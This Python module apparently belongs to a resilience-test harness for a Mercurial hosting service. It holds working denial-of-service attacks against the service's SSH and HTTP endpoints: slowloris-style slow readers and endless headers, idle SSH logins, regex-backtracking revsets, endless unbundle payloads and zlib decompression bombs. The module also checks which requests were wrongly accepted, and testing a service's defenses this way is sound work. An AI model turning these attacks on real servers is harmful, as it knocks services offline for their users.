"""What an attacker does, one kind a function: each is called with a `Target` and runs until it is told to stop."""

import http.client
import itertools
import os
import socket
import struct
import subprocess
import threading
import urllib.parse
import zlib

# Another address than honest clients have.
ATTACKER = "127.0.0.2"
STEP_SECONDS = 0.2
# Who was refused comes again.
AGAIN_SECONDS = 1
# Mirrors have 2048 places each, their balancer 4096.
SILENT_READERS = 2500
# Else the attacker takes the processor, not the server.
PACE_SECONDS = 0.01


class Target:
    def __init__(self, order):
        self.ssh_command = order["ssh"].split(" ")
        user, _at, rest = order["base"].removeprefix("ssh://").partition("@")
        host, _colon, port = rest.partition(":")
        self.ssh_address, self.login = (host, int(port)), ["-p", port, "%s@%s" % (user, host)]
        host, _colon, port = order["http"].removeprefix("http://").partition(":")
        self.http_address = (host, int(port.rstrip("/")))
        self.path, self.own, self.foreign = order["path"], order["own"], order["foreign"]
        self.large = order["large"]
        self.stopped = threading.Event()
        # Answers that nobody should get.
        self.wrong = []

    def connect(self, address, small=False, source=ATTACKER):
        made = socket.socket()
        if small:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.settimeout(5)
        made.bind((source, 0))
        made.connect(address)
        return made

    def many(self, number, work):
        threads = [threading.Thread(target=self.again, args=(work,), daemon=True) for _number in range(number)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def again(self, work):
        """An attacker who was refused tries again."""
        while not self.stopped.is_set():
            try:
                work()
            except (OSError, http.client.HTTPException):
                pass
            self.stopped.wait(AGAIN_SECONDS)

    def get(self, path):
        connection = http.client.HTTPConnection(*self.http_address, timeout=30, source_address=(ATTACKER, 0))
        connection.request("GET", path)
        connection.getresponse().read()
        connection.close()

    def refused(self, path, more=b""):
        """Asks what can be read in two ways."""
        with self.connect(self.http_address) as connection:
            connection.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\n%s\r\n" % (path.encode(), more))
            status = connection.makefile("rb").readline()
        if status and b" 400 " not in status and b" 503 " not in status:
            self.wrong.append("%s %r: %r" % (path, more, status))

    def serve(self, path):
        command = [*self.ssh_command, *self.login, "hg -R %s serve --stdio" % path]
        return subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def silent_connections(target):
    def work():
        with target.connect(target.ssh_address) as connection:
            connection.settimeout(STEP_SECONDS)
            while not target.stopped.is_set() and read_or_wait(connection) != b"":
                pass

    target.many(300, work)


def silent_readers(target):
    """More than a mirror has places; who was cut comes again."""
    held = []
    while not target.stopped.is_set():
        try:
            connection = target.connect(target.http_address)
            connection.setblocking(False)
            held.append(connection)
        except OSError:
            target.stopped.wait(PACE_SECONDS)
        if len(held) >= SILENT_READERS:
            target.stopped.wait(STEP_SECONDS)
            gone = [connection for connection in held if read_or_wait(connection) is not None]
            for connection in gone:
                connection.close()
            held = [connection for connection in held if connection not in gone]
    for connection in held:
        connection.close()


def read_or_wait(connection):
    try:
        return connection.recv(65536)
    except (TimeoutError, BlockingIOError):
        return None
    except OSError:
        return b""


def idle_logins(target):
    """One account only; each is an OpenSSH of its own."""
    command = [*target.ssh_command, "-b", ATTACKER, "-N", *target.login]
    running = [subprocess.Popen(command, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _number in range(60)]
    target.stopped.wait()
    for process in running:
        process.kill()
        process.wait()


def slow_readers_of_files(target):
    _read_slowly(target, target.large)


def slow_readers_of_archives(target):
    _read_slowly(target, "/%s/archive/%s.zip" % (target.path, target.large.split("/")[-2]))


def slow_clones(target):
    _read_slowly(target, "/%s?cmd=changegroup&roots=%s" % (target.path, "0" * 40))


def _read_slowly(target, path):
    def work():
        with target.connect(target.http_address, small=True) as connection:
            connection.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % path.encode())
            while not target.stopped.wait(STEP_SECONDS):
                if not connection.recv(int(65536 * STEP_SECONDS)):
                    return

    target.many(16, work)


def backtracking(target):
    revset = 'desc("re:(a|a)" ## "*$") or grep("(a|aa)" ## "+$")'
    path = "/%s/json-log?%s" % (target.path, urllib.parse.urlencode({"rev": revset}))
    target.many(8, lambda: target.get(path))


def dripping_bodies(target):
    def work():
        with target.connect(target.http_address) as connection:
            connection.sendall(
                b"POST /%s?cmd=batch HTTP/1.1\r\nHost: x\r\nX-HgArgs-Post: 1000000\r\n"
                b"Content-Type: application/mercurial-0.1\r\nContent-Length: 1000000\r\n\r\n" % target.path.encode()
            )
            while not target.stopped.wait(1):
                connection.sendall(b"cmds")

    target.many(16, work)


def endless_headers(target):
    def work():
        with target.connect(target.http_address) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            while not target.stopped.wait(STEP_SECONDS):
                connection.sendall(b"X-A: %s\r\n" % (b"a" * 4000))

    target.many(200, work)


def large_headers(target):
    """Each nearly as long as one may be, and never ended; from several addresses."""
    numbers = itertools.count()

    def work():
        source = "127.0.0.%d" % (2 + next(numbers) % 5)
        with target.connect(target.http_address, source=source) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            for _number in range(60):
                connection.sendall(b"X-A: %s\r\n" % (b"a" * 4000))
            target.stopped.wait()

    target.many(500, work)


def endless_payload(target):
    """By somebody who may read that repository, and not write to it."""

    def work():
        session = target.serve(target.foreign)
        heads = b"force".hex().encode()
        chunk = b"65536\n" + os.urandom(65536)
        try:
            session.stdin.write(b"unbundle\nheads %d\n%s" % (len(heads), heads))
            while not target.stopped.wait(PACE_SECONDS) and session.poll() is None:
                session.stdin.write(chunk)
        finally:
            session.kill()
            session.wait()

    target.many(2, work)


def _gigabyte(start, megabyte):
    """`start` and a thousand times `megabyte`, packed into a thousandth."""
    pack = zlib.compressobj(9)
    packed = pack.compress(start) + pack.flush(zlib.Z_FULL_FLUSH)
    # What follows a full flush can be said again.
    return packed + 1024 * (pack.compress(megabyte) + pack.flush(zlib.Z_FULL_FLUSH))


def revision_bomb(target):
    """A bundle of one megabyte whose first revision is a gigabyte of zeros."""
    _bomb(target, b"HG10GZ" + _gigabyte(struct.pack(">l", 1 << 30), bytes(1 << 20)))


def part_bomb(target):
    """As many heads that are checked, in pieces."""
    kind, compression = b"check:heads", b"Compression=GZ"
    header = struct.pack(">B%dsIBB" % len(kind), len(kind), kind, 0, 0, 0)
    start = struct.pack(">I", len(header)) + header
    packed = _gigabyte(start, struct.pack(">I", 1 << 20) + bytes(1 << 20))
    _bomb(target, b"HG20" + struct.pack(">I", len(compression)) + compression + packed)


def _bomb(target, payload):
    def work():
        session = target.serve(target.own)
        heads = b"force".hex().encode()
        try:
            session.stdin.write(b"unbundle\nheads %d\n%s%d\n%s0\n" % (len(heads), heads, len(payload), payload))
            session.stdin.flush()
            while not target.stopped.wait(STEP_SECONDS) and session.poll() is None:
                pass
        finally:
            session.kill()
            session.wait()

    target.many(1, work)


def heavy_work_as_light(target):
    def work():
        target.get("/%s/%%61rchive/tip.zip" % target.path)
        target.refused("/%s?cmd=heads&cmd=stream_out" % target.path)
        target.refused("/%s?cmd=heads" % target.path, b"Host: y\r\n")

    target.many(8, work)


ATTACKS = [
    silent_connections,
    silent_readers,
    idle_logins,
    slow_readers_of_files,
    slow_readers_of_archives,
    slow_clones,
    backtracking,
    dripping_bodies,
    endless_headers,
    large_headers,
    endless_payload,
    revision_bomb,
    part_bomb,
    heavy_work_as_light,
]
